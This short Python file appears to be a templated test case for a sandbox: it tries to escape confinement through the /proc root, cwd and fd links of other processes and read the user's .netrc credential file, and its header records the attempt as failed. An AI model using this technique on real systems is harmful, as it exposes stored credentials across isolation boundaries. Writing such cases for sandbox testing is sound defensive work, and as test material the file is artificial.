"""Reads a home folder by the roots and the working folders that /proc shows of other processes."""
# /// attack
# class = 69
# goal = "read files outside the box by the links in /proc that lead there"
# gain = "secret"
# outcome = "failed"
# naive = true
# ///

import contextlib
import os

for process in ("1", str(os.getppid()), "@BYSTANDER@", "self", "thread-self"):
    for door in ("root", "cwd"):
        with contextlib.suppress(OSError), open(f"/proc/{process}/{door}@HOME@/.netrc") as stream:
            print(stream.read())
    with contextlib.suppress(OSError):
        for number in os.listdir(f"/proc/{process}/fd"):
            with contextlib.suppress(OSError, UnicodeError):
                folder = os.readlink(f"/proc/{process}/fd/{number}")
                print(open(f"/proc/{process}/fd/{number}@HOME@/.netrc").read(), folder)


def standardise(x):
    return x
